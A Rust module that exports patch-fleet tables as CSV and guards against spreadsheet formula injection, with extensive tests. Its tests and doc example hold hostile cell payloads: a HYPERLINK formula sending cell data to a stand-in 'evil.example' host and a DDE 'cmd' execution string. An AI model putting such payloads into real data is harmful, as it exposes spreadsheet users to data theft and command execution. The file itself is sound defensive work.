//! CSV exports of the fleet tables, the device × KB matrix and one device's missing KBs.
//!
//! RFC 4180 (comma, every field in `"` quotes, CRLF line ends), UTF-8 without a byte-order
//! mark: the download code prepends one if a spreadsheet needs it. Device names, update names
//! and product names come from the API and may be hostile, and a spreadsheet whose list
//! separator is `;` (Dutch or German Excel) or tab splits the file elsewhere than at its
//! commas. So every field is quoted, and a `'` goes before anything that would start a
//! formula: a cell starting with `=`, `+`, `-`, `@` (after leading whitespace), a tab or a
//! carriage return, and the same after a `;`, tab or line break inside a cell
//! ([`neutralise`]).
//!
//! ```
//! use kbwatch_core::fleet::csv_export::device_kbs_csv;
//! use kbwatch_core::MissingKb;
//!
//! let kb = MissingKb {
//!     id: "4540673".into(),
//!     name: Some("=HYPERLINK(\"http://evil\")".into()),
//!     products: vec!["windows_10".into()],
//!     url: None,
//!     machine_missed_on: Some(1),
//!     cve_addressed: Some(97),
//! };
//! let csv = device_kbs_csv(&[kb]);
//! assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil\"\")\""));
//! ```

use std::collections::HashMap;

use crate::fleet::aggregate::{FleetAggregate, FleetDevice, FleetKb, FleetKbSortKey};
use crate::kb::MissingKb;
use crate::sort::{sort_by, Sort, SortDirection};

/// Product names joined in a cell.
const PRODUCT_SEPARATOR: &str = "; ";

/// The per-KB table: KB, Update, Products, Devices missing, CVEs addressed, Catalog URL.
pub fn kbs_csv(kbs: &[&FleetKb]) -> String {
    write_csv(
        &[
            "KB",
            "Update",
            "Products",
            "Devices missing",
            "CVEs addressed",
            "Catalog URL",
        ],
        kbs.iter().map(|kb| {
            vec![
                kb.label.clone(),
                kb.name.clone().unwrap_or_default(),
                kb.product_labels().join(PRODUCT_SEPARATOR),
                kb.device_count().to_string(),
                kb.cves.to_string(),
                kb.catalog_url.clone().unwrap_or_default(),
            ]
        }),
    )
}

/// The per-device table: Device, Device ID, Missing KBs, CVEs addressable, Oldest missing
/// update ("2020-03", empty when no missing update carries a date).
pub fn devices_csv(devices: &[&FleetDevice]) -> String {
    write_csv(
        &[
            "Device",
            "Device ID",
            "Missing KBs",
            "CVEs addressable",
            "Oldest missing update",
        ],
        devices.iter().map(|d| {
            vec![
                d.name.clone(),
                d.id.to_string(),
                d.missing.to_string(),
                d.cves.to_string(),
                d.oldest_update.map(|m| m.to_string()).unwrap_or_default(),
            ]
        }),
    )
}

/// The device × KB matrix: one row per device (by name, then ID), one column per KB (most
/// devices first, as the per-KB table's default order), `1` where the device misses the KB.
pub fn matrix_csv(fleet: &FleetAggregate) -> String {
    let columns = fleet.kb_rows(
        &Default::default(),
        Sort::new(FleetKbSortKey::Devices, SortDirection::Descending),
    );
    let mut devices: Vec<(String, &FleetDevice)> = fleet
        .devices()
        .map(|d| (d.name.to_lowercase(), d))
        .collect();
    sort_by(&mut devices, |(a_name, a), (b_name, b)| {
        a_name.cmp(b_name).then_with(|| a.id.cmp(&b.id))
    });

    let column_of: HashMap<&str, usize> = columns
        .iter()
        .enumerate()
        .map(|(i, kb)| (kb.id.as_str(), i))
        .collect();
    let mut header = vec!["Device", "Device ID"];
    header.extend(columns.iter().map(|kb| kb.label.as_str()));
    write_csv(
        &header,
        devices.iter().map(|(_, d)| {
            let mut row: Vec<&str> = vec![""; columns.len() + 2];
            row[0] = &d.name;
            row[1] = d.id.as_str();
            for key in &d.kb_ids {
                if let Some(&i) = column_of.get(&**key) {
                    row[i + 2] = "1";
                }
            }
            row
        }),
    )
}

/// One device's missing KBs (the device view): KB, Update, Products, CVEs addressed, Catalog
/// URL, in the order given.
pub fn device_kbs_csv(kbs: &[MissingKb]) -> String {
    write_csv(
        &["KB", "Update", "Products", "CVEs addressed", "Catalog URL"],
        kbs.iter().map(|kb| {
            vec![
                kb.label(),
                kb.name.clone().unwrap_or_default(),
                kb.product_labels().join(PRODUCT_SEPARATOR),
                kb.cves().to_string(),
                kb.catalog_url().unwrap_or_default(),
            ]
        }),
    )
}

/// Characters a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];

/// Characters a spreadsheet expecting another list separator than the file's comma splits on:
/// `;` (Dutch or German Excel), tab, and line breaks. Past the first cell such a reader is
/// outside the quotes, so what follows one of them inside a cell starts a cell of its own.
const SPLITS: [char; 4] = [';', '\t', '\r', '\n'];

/// The cell as written: a `'` before anything a spreadsheet would evaluate — at the start of a
/// cell that begins with a formula character (after leading whitespace or invisible
/// characters), a tab or a carriage return (OWASP's list), and just after a separator inside
/// the cell that is followed by such a start, by a quote, or by the cell's end (where a
/// misreading reader would find a quote and lose track of which quotes open a cell).
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    let at_start = starts_a_formula(cell);
    let inner: Vec<usize> = cell
        .char_indices()
        .filter(|&(_, c)| SPLITS.contains(&c))
        .map(|(i, c)| i + c.len_utf8())
        .filter(|&after| {
            let rest = &cell[after..];
            // CR LF is one line break: the LF after it decides.
            !(cell[..after].ends_with('\r') && rest.starts_with('\n'))
                && (rest.is_empty() || rest.starts_with('"') || starts_a_formula(rest))
        })
        .collect();
    if !at_start && inner.is_empty() {
        return std::borrow::Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len() + inner.len() + 1);
    if at_start {
        out.push('\'');
    }
    let mut from = 0;
    for at in inner {
        out.push_str(&cell[from..at]);
        out.push('\'');
        from = at;
    }
    out.push_str(&cell[from..]);
    std::borrow::Cow::Owned(out)
}

/// Whether a spreadsheet would evaluate a cell starting with `text`.
fn starts_a_formula(text: &str) -> bool {
    text.starts_with(['\t', '\r'])
        || text
            .trim_start_matches(|c: char| c.is_whitespace() || crate::quote::is_format(c))
            .starts_with(FORMULA_STARTS)
}

/// The one CSV writer: header plus rows, every cell neutralised.
///
/// Written here rather than with the `csv` crate (which the tests use to read every export
/// back): its writer links the standard library's float parser, ~11 KB of brotli in the wasm,
/// for a quoting style (`NonNumeric`) these exports never use.
fn write_csv<R, C>(header: &[&str], rows: impl IntoIterator<Item = R>) -> String
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut out = String::new();
    write_record(&mut out, header.iter());
    for row in rows {
        write_record(&mut out, row);
    }
    out
}

fn write_record<C: AsRef<str>>(out: &mut String, cells: impl IntoIterator<Item = C>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        write_field(out, &neutralise(cell.as_ref()));
    }
    out.push_str("\r\n");
}

/// Every field quoted, its quotes doubled: a separator of any locale inside a cell stays in
/// the cell, and a lone empty cell is `""`, not an empty line readers skip.
fn write_field(out: &mut String, field: &str) {
    out.push('"');
    out.push_str(&field.replace('"', "\"\""));
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fleet::aggregate::fixtures::{fleet, id, kb};
    use crate::fleet::aggregate::{FleetDeviceFilter, FleetKbFilter};
    use proptest::prelude::*;

    const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

    /// Every export of `fleet` (its tables in the default order, the matrix) and of `kbs` as
    /// one device's list.
    fn every_export(fleet: &FleetAggregate, kbs: &[MissingKb]) -> [String; 4] {
        let kb_rows = fleet.kb_rows(&FleetKbFilter::default(), Sort::default());
        let device_rows = fleet.device_rows(&FleetDeviceFilter::default(), Sort::default());
        [
            kbs_csv(&kb_rows),
            devices_csv(&device_rows),
            matrix_csv(fleet),
            device_kbs_csv(kbs),
        ]
    }

    fn parse(csv: &str) -> Vec<Vec<String>> {
        parse_with(csv, b',')
    }

    proptest! {
        /// Whatever the cells hold, the `csv` crate reads back exactly the cells written
        /// (neutralised), row by row.
        #[test]
        fn every_record_reads_back_as_written(
            rows in proptest::collection::vec(
                proptest::collection::vec("[a-z,\"\r\n =+@; é-]{0,8}", 1..5),
                0..6,
            )
        ) {
            let header = ["one", "two"];
            let csv = write_csv(&header, rows.iter());
            prop_assert!(csv.ends_with("\r\n"));
            let mut expected = vec![header.iter().map(|h| h.to_string()).collect::<Vec<_>>()];
            expected.extend(
                rows.iter()
                    .map(|row| row.iter().map(|c| neutralise(c).into_owned()).collect()),
            );
            prop_assert_eq!(parse(&csv), expected);
        }
    }

    #[test]
    fn kbs_table_columns_and_values() {
        let f = fleet();
        let rows = f.kb_rows(&FleetKbFilter::default(), Sort::default());
        let csv = kbs_csv(&rows);
        assert!(csv.ends_with("\r\n"));
        let table = parse(&csv);
        assert_eq!(
            table[0],
            [
                "KB",
                "Update",
                "Products",
                "Devices missing",
                "CVEs addressed",
                "Catalog URL"
            ]
        );
        assert_eq!(
            table[1],
            [
                "KB4540673",
                "March 2020 Security Updates",
                "Microsoft Edge; Windows 10",
                "2",
                "97",
                "https://catalog.update.microsoft.com/v7/site/Search.aspx?q=KB4540673"
            ]
        );
        assert_eq!(table.len(), 4);
    }

    #[test]
    fn devices_table_columns_and_values() {
        let f = fleet();
        let rows = f.device_rows(&FleetDeviceFilter::default(), Sort::default());
        let table = parse(&devices_csv(&rows));
        assert_eq!(
            table[0],
            [
                "Device",
                "Device ID",
                "Missing KBs",
                "CVEs addressable",
                "Oldest missing update"
            ]
        );
        assert_eq!(table[1], ["alpha", id(1).as_str(), "2", "109", "2020-03"]);
        assert_eq!(table[4], ["delta", id(4).as_str(), "0", "0", ""]);
    }

    #[test]
    fn matrix_marks_missing_pairs() {
        let table = parse(&matrix_csv(&fleet()));
        assert_eq!(
            table[0],
            ["Device", "Device ID", "KB4540673", "KB5044285", "KB4552931"]
        );
        let rows: Vec<Vec<&str>> = table[1..]
            .iter()
            .map(|r| r.iter().map(String::as_str).collect())
            .collect();
        assert_eq!(
            rows,
            [
                vec!["alpha", id(1).as_str(), "1", "1", ""],
                vec!["Beta", id(2).as_str(), "1", "", "1"],
                vec!["delta", id(4).as_str(), "", "", ""],
                vec!["gamma", id(3).as_str(), "", "1", ""],
            ]
        );
        assert_eq!(
            parse(&matrix_csv(&FleetAggregate::new())),
            [["Device", "Device ID"]]
        );
    }

    #[test]
    fn device_kbs_table() {
        let mut odd = kb("<script>", "", &[], 0);
        odd.name = None;
        let table = parse(&device_kbs_csv(&[
            kb(
                "5044285",
                "Oct, \"big\"\nupdate",
                &["windows_11", ".net_framework"],
                12,
            ),
            odd,
        ]));
        assert_eq!(
            table[0],
            ["KB", "Update", "Products", "CVEs addressed", "Catalog URL"]
        );
        assert_eq!(
            table[1],
            [
                "KB5044285",
                "Oct, \"big\"\nupdate",
                "Windows 11; .NET Framework",
                "12",
                "https://catalog.update.microsoft.com/v7/site/Search.aspx?q=KB5044285"
            ]
        );
        assert_eq!(table[2], ["<script>", "", "", "0", ""]);
    }

    #[test]
    fn hostile_cells_are_neutralised_and_quoted() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "-2+3",
            "+1",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "=cmd|' /C calc'!A0",
        ];
        let mut f = FleetAggregate::new();
        for (n, text) in hostile.iter().enumerate() {
            let n = n as u32 + 1;
            f.add_device_named(id(n), *text, &[kb(text, text, &[text], n)]);
        }
        let raw_kbs: Vec<MissingKb> = hostile.iter().map(|t| kb(t, t, &[t], 1)).collect();
        for csv in every_export(&f, &raw_kbs) {
            let table = parse(&csv);
            for cell in table.iter().flatten() {
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {csv}");
            }
            let cells: Vec<&String> = table.iter().flatten().collect();
            assert!(cells.iter().any(|c| c.as_str() == "'-2+3"), "{csv}");
            assert!(
                cells.iter().any(|c| c.starts_with("'=HYPERLINK(\"http")),
                "{csv}"
            );
        }
        assert_eq!(neutralise("@SUM"), "'@SUM");
        assert_eq!(neutralise("KB1"), "KB1");
        assert_eq!(neutralise(""), "");
        // The quoting itself: a quote inside a cell is doubled, the cell is wrapped.
        assert!(device_kbs_csv(&raw_kbs)
            .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
    }

    /// A separator a spreadsheet may split on: the file's own comma, and the list separators
    /// of other locales (`;` in Dutch or German Excel, tab when pasted).
    const SEPARATORS: [u8; 3] = [b',', b';', b'\t'];

    /// `csv` read as a spreadsheet whose list separator is `separator` reads it.
    fn parse_with(csv: &str, separator: u8) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .delimiter(separator)
            .from_reader(csv.as_bytes())
            .records()
            .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
            .collect()
    }

    /// Whether a spreadsheet would evaluate `cell`: a formula character first once leading
    /// whitespace is skipped, or a tab or carriage return first (OWASP's list).
    fn spreadsheet_would_evaluate(cell: &str) -> bool {
        cell.starts_with(['\t', '\r'])
            || cell
                .trim_start()
                .starts_with(['=', '+', '-', '@', '\t', '\r'])
    }

    /// Cells an attacker would pick: separators of every locale, quotes, line breaks,
    /// whitespace before a formula, and anything else.
    fn hostile_cell() -> impl Strategy<Value = String> {
        prop_oneof![
            3 => "[a-z,;\t\r\n\" =+@'-]{0,12}",
            1 => "\\PC{0,12}",
            1 => "[ \t\r\n\u{a0}\u{3000}]{0,3}[=+@-][a-z(),;\"]{0,6}",
        ]
    }

    #[test]
    fn every_field_is_quoted() {
        assert_eq!(
            write_csv(&["KB", "Update"], [["KB1", ""], ["1", "a\"b"]]),
            "\"KB\",\"Update\"\r\n\"KB1\",\"\"\r\n\"1\",\"a\"\"b\"\r\n"
        );
    }

    #[test]
    fn a_semicolon_list_separator_does_not_split_a_cell_into_a_formula() {
        // The update name is the second column: a reader splitting on `;` is past the first
        // cell's closing quote there, so the quotes around this one no longer protect it.
        for cell in [
            "x;=HYPERLINK(\"http://evil\")",
            "x;=HYPERLINK(A1)",
            "x;=cmd|' /C calc'!A0",
        ] {
            let csv = device_kbs_csv(&[kb("1", cell, &[], 1)]);
            let table = parse_with(&csv, b';');
            for row in &table {
                for parsed in row {
                    assert!(!spreadsheet_would_evaluate(parsed), "{parsed:?} in {csv:?}");
                }
            }
            // Alone on its line, it is one cell under `;` as under `,`.
            let alone = write_csv(&["Update"], [[cell]]);
            assert_eq!(
                parse_with(&alone, b';')[1],
                [neutralise(cell).into_owned()],
                "{alone:?}"
            );
        }
        assert_eq!(neutralise("x;=HYPERLINK(A1)"), "x;'=HYPERLINK(A1)");
    }

    #[test]
    fn whitespace_before_a_formula_does_not_hide_it() {
        for cell in [
            "  =cmd",
            "\t=cmd",
            "\r\n=cmd",
            " +1",
            "\u{a0}@SUM(A1)",
            " -1",
        ] {
            assert!(neutralise(cell).starts_with('\''), "{cell:?}");
        }
        assert_eq!(neutralise("  =cmd"), "'  =cmd");
        assert_eq!(neutralise("a b"), "a b");
    }

    proptest! {
        /// Read back with the file's comma, every record is the cells written (neutralised);
        /// read by a spreadsheet splitting on `;` or tab instead, a cell alone on its line is
        /// still that cell, and however a record falls apart no part starts a formula.
        #[test]
        fn no_separator_turns_any_part_of_a_cell_into_a_formula(
            rows in proptest::collection::vec(proptest::collection::vec(hostile_cell(), 1..5), 0..6),
        ) {
            let header = ["one", "two"];
            let csv = write_csv(&header, rows.iter());
            let mut expected = vec![header.iter().map(|h| h.to_string()).collect::<Vec<_>>()];
            expected.extend(
                rows.iter()
                    .map(|row| row.iter().map(|c| neutralise(c).into_owned()).collect()),
            );
            prop_assert_eq!(parse_with(&csv, b','), expected);
            for separator in SEPARATORS {
                for cell in parse_with(&csv, separator).iter().flatten() {
                    prop_assert!(!spreadsheet_would_evaluate(cell), "{:?} under {:?} in {:?}", cell, separator as char, csv);
                }
                for cell in rows.iter().flatten() {
                    let alone = write_csv(&["one"], [[cell]]);
                    let table = parse_with(&alone, separator);
                    prop_assert_eq!(&table[1], &[neutralise(cell).into_owned()], "{:?}", alone);
                }
            }
        }
    }

    proptest! {
        #[test]
        fn no_cell_ever_starts_a_formula(
            names in prop::collection::vec("[=+\\-@\t\r\n\",; a-zA-Z0-9]{0,12}", 1..8),
        ) {
            let mut f = FleetAggregate::new();
            let kbs: Vec<MissingKb> = names.iter().map(|n| kb(n, n, &[n.as_str(), "edge"], 3)).collect();
            let kbs: Vec<MissingKb> = kbs.into_iter().filter(|k| !k.id.trim().is_empty()).collect();
            for (i, name) in names.iter().enumerate() {
                f.add_device_named(id(i as u32), name.as_str(), &kbs);
            }
            for csv in every_export(&f, &kbs) {
                let table = parse(&csv);
                for cell in table.iter().flatten() {
                    prop_assert!(!cell.starts_with(FORMULA_STARTS), "{:?}", cell);
                }
            }
            // Names survive the round trip, with at most a `'` before each formula start.
            let device_rows = f.device_rows(&FleetDeviceFilter::default(), Sort::default());
            let table = parse(&devices_csv(&device_rows));
            for (row, device) in table[1..].iter().zip(&device_rows) {
                let cell = &row[0];
                prop_assert_eq!(cell.replace('\'', ""), device.name.replace('\'', ""));
            }
        }
    }
}
